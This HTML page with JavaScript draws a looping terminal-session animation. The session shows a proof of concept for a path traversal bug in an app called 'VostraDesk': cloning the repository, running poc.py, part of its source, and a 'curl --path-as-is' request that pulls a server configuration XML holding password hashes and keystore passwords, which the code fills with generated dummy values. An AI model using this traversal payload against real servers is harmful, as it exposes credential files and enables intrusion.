
Animation, 998 px wide and 561 px high, one loop 8 s. Source, as an HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #131b2b; }
  svg { display: block; width: 998px; height: 561px; }
  text { white-space: pre; text-rendering: geometricPrecision; }
  .mono { font: 9px "DejaVu Sans Mono", monospace; }
  .ui { font: 8.5px "Noto Sans", sans-serif; fill: #d0d5de; }
  .title { font-weight: 600; fill: #b9c0cb; text-anchor: middle; }
  .caption { font: 900 30px Lato, sans-serif; letter-spacing: .9px; fill: #fff; text-anchor: middle; }
</style>
</head>
<body>
<svg id="stage" viewBox="0 0 998 561"></svg>
<script>
const LOOP = 8000;
const CW = 9 * 0.60205, LH = 10.805;
const BACK = '#131b2b', FG = '#d3d7d3', PALE = '#d9dce2', LIME = '#00e400';

// style code: [text colour, cell colour]
const STYLES = {
  b: ['#3d72a8'], r: ['#c40000'], g: [LIME], c: ['#00d4d8'],
  i: ['#000', PALE], h: ['#063806', LIME], k: [LIME, LIME], w: [PALE, PALE],
  x: ['#838587', '#838587']
};

const APP = 'VostraDesk', REF = 'BUG-2024-31846', TITLE = APP + ': BUG-31846';
const PATH = '/example-resource/../resource1/../../configuration/serverconfig.xml';
const HIDDEN = '¦x' + ' '.repeat(12) + '¦';
const pad = n => ' '.repeat(n);
const prompt = dir => `${pad(20)}:¦b~/${APP}-${REF}${dir}¦# `;
const SUB = '/' + REF;
const CURSOR = '¦w ¦';
const CURL = prompt(SUB) + 'curl --path-as-is http://' + HIDDEN + PATH;

const stage = document.getElementById('stage');

function add(parent, tag, attrs, text) {
  const el = document.createElementNS('http://www.w3.org/2000/svg', tag);
  for (const k in attrs) el.setAttribute(k, attrs[k]);
  if (text !== undefined) el.textContent = text;
  parent.appendChild(el);
  return el;
}

const rect = (g, x, y, width, height, fill) => add(g, 'rect', { x, y, width, height, fill });

// Parts between ¦ marks start with a style code.
function drawLine(g, line, row, x0, y0) {
  let col = 0;
  line.split('¦').forEach((part, n) => {
    const [fill, cell] = n % 2 ? STYLES[part[0]] : [FG];
    const text = n % 2 ? part.slice(1) : part;
    const x = x0 + col * CW, y = y0 + row * LH;
    if (cell) rect(g, x, y, text.length * CW, LH, cell);
    if (text.trim()) add(g, 'text', { x, y: y + 8.5, fill, class: 'mono' }, text);
    col += text.length;
  });
}

function drawWindow({ left, top, bar, bottom, x, y, lines, extra }) {
  const g = add(stage, 'g', { visibility: 'hidden' });
  rect(g, left, top, 998, bar - top, '#2f343f');
  rect(g, left, bar, 998, bottom - bar, '#000');
  lines.forEach((line, row) => drawLine(g, line, row, x, y));
  rect(g, 0, bottom, 998, 561 - bottom, BACK);

  const ui = add(g, 'g', { transform: `translate(${left * 0.6} ${y - 124})` });
  add(ui, 'text', { x: 502.8, y: 104, class: 'ui title' }, TITLE);
  [['File', 5], ['Edit', 28.8], ['View', 54.8], ['Search', 84], ['Terminal', 121], ['Help', 165.5]]
    .forEach(([name, at]) => add(ui, 'text', { x: at, y: 118.6, class: 'ui' }, name));
  rect(ui, 957, 99.8, 4, 1.1, '#b9c0cb');
  add(ui, 'path', { d: 'M976.8 98.2h2.2v2.2zM974.9 100v2.2h2.2z', fill: '#b9c0cb' });
  add(ui, 'circle', { cx: 994.6, cy: 100.2, r: 4.1, fill: '#cc575d' });
  add(ui, 'path', { d: 'M993 98.6l3.2 3.2m0-3.2l-3.2 3.2', stroke: '#2f343f', 'stroke-width': 1 });
  if (extra) extra(g);
  return g;
}

// Made-up base64-like text
function token(n, seed) {
  const set = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let out = '';
  while (out.length < n) {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    out += set[Math.floor(seed / 2147483648 * 64)];
  }
  return out;
}

const cloneLines = [
  prompt('') + `git clone https://gx.example/okwen/${REF}`,
  `Cloning into '${REF}'...`,
  'remote: Enumerating objects: 12, done.',
  'remote: Counting objects: 100% (12/12), done.',
  'remote: Compressing objects: 100% (10/10), done.',
  'remote: Total 12 (delta 1), reused 0 (delta 0), pack-reused 0 (from 0)',
  'Unpacking objects: 100% (12/12), 4.34 KiB | 1.08 MiB/s, done.',
  prompt('') + CURSOR
];

const checkLines = [
  prompt(SUB) + 'python3 poc.py http://' + HIDDEN,
  '[+] http://' + HIDDEN + ' is vulnerable',
  prompt(SUB) + CURSOR
];

const keyRow = items => items.split(',').map(item => {
  const [key, ...label] = item.split(' ');
  const name = ' ' + label.join(' ');
  return `¦i${key}¦${name.padEnd(16 - key.length)}`;
}).join('');

const header = '  TXT vire 4.8'.padEnd(91) + 'poc.py';
const editorLines = [
  `¦i${header.padEnd(185)}¦`,
  '¦r# -*- coding: utf-8 -*-¦',
  '¦r#¦¦k ¦',
  '¦cfrom¦ urllib ¦cimport¦ request',
  '¦cimport¦ ssl',
  '¦cimport¦ sys',
  '',
  '¦cdef¦ ¦bsend_path_traversal_request¦(url: str) -> bool:',
  '¦g    """¦',
  '¦g    Send a path traversal request and get the response¦',
  '¦k    ¦',
  '¦k ¦¦g   Args:¦',
  '¦g        url (str): Target url address¦',
  '¦g    Returns:¦',
  '¦g        dict: Dictionary containing response information, including status code, response content, etc.¦',
  '¦g        None: Returns None if request fails¦',
  '¦g    """¦',
  `    ¦iurl = url + ¦¦h"${PATH}"¦`,
  '    context = ssl._create_unverified_context()',
  '¦r    # Default request headers¦',
  '    default_headers = {',
  "        ¦g'Accept-Encoding'¦: ¦g'gzip, deflate, br'¦,",
  "        ¦g'Accept'¦: ¦g'*/*'¦,",
  "        ¦g'Connection'¦: ¦g'keep-alive'¦",
  '    }',
  '',
  '    ¦ctry¦:',
  '        req = request.Request(url, headers=default_headers, method=¦g"GET"¦)',
  '        response = request.urlopen(req, timeout=30, context=context)',
  pad(83) + '¦i[ Read 51 lines ]¦',
  keyRow('^G Get Help,^O Write Out,^W Where Is,^K Cut Text,^J Justify,^C Cur Pos,M-U Undo,M-A Mark Text,M-] To Bracket,M-Q Previous,^B Back'),
  keyRow('^X Exit,^R Read File,^\\ Replace,^U Paste Text,^T To Spell,^_ Go To Line,M-E Redo,M-6 Copy Text,^Q Where Was,M-W Next,^F Forwards')
];

const salt = token(34, 71) + '==';
const field = label => [
  `${pad(16)}<CUIField type="textfield" width="100" label="${label}">`,
  pad(24) + '<Remember>true</Remember>',
  pad(24) + '<Visible>true</Visible>',
  pad(16) + '</CUIField>'
];
const features = ['RemoteAccess', 'RemoteSupport', 'Presentation', 'MobileAccess',
  'RemoteWork', 'Tools', 'ServiceRecovery'];
const xmlLines = [
  CURL,
  '<?xml version="1.0" encoding="UTF-8" ?>',
  '<!--',
  `   ${APP} Server XML Configuration File`,
  '',
  '   The encoding of this file is UTF-8.',
  '-->',
  `<VostraSuite v="5.5.5" s="${salt}">`,
  pad(8) + '<ServerFeatures>',
  ...features.map(f => `${pad(16)}<${f}>on</${f}>`),
  pad(8) + '</ServerFeatures>',
  pad(8) + '<DetailsList>',
  ...field('Name'),
  ...field('Company'),
  pad(8) + '</DetailsList>',
  `${pad(8)}<HashPassword>${token(34, 19)}==:${token(27, 43)}=</HashPassword>`,
  pad(8) + '<SslKeystore>',
  `${pad(16)}<SecureKeystoreStorePasswordv2>${salt}:${token(100, 87)}`,
  token(12, 5) + '</SecureKeystoreStorePasswordv2>',
  `${pad(16)}<SecureKeystoreKeyPasswordv2>${salt}:${token(102, 29)}`
];

const speck = (...rows) => g => rows.forEach(y => rect(g, 107.8, y, 1.4, 1.2, '#4a5a4c'));

const scenes = [
  { at: 0, left: 0, top: 93.7, bar: 123, bottom: 467.4, x: 0.3, y: 124, lines: cloneLines,
    extra: g => add(g, 'text', { x: 499.3, y: 299.6, class: 'caption' }, 'Task 2') },
  { at: 500, left: 0.9, top: 93.4, bar: 123.4, bottom: 468, x: 0.9, y: 124.6, lines: checkLines,
    extra: speck(130.2, 151.8) },
  { at: 2680, left: 0.9, top: 93.2, bar: 123, bottom: 468, x: 0.9, y: 124.1, lines: editorLines },
  { at: 4860, left: 0.9, top: 92.7, bar: 122.8, bottom: 469, x: 1.1, y: 124, lines: [CURL],
    extra: speck(129.6) },
  { at: 5950, left: 0.6, top: 91.8, bar: 122, bottom: 468.6, x: 0.6, y: 123, lines: xmlLines }
];

rect(stage, 0, 0, 998, 561, BACK);
scenes.forEach(s => { s.node = drawWindow(s); });

const start = performance.now();
function tick() {
  const t = (performance.now() - start) % LOOP;
  const live = scenes.filter(s => s.at <= t).pop();
  scenes.forEach(s => s.node.setAttribute('visibility', s === live ? 'visible' : 'hidden'));
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
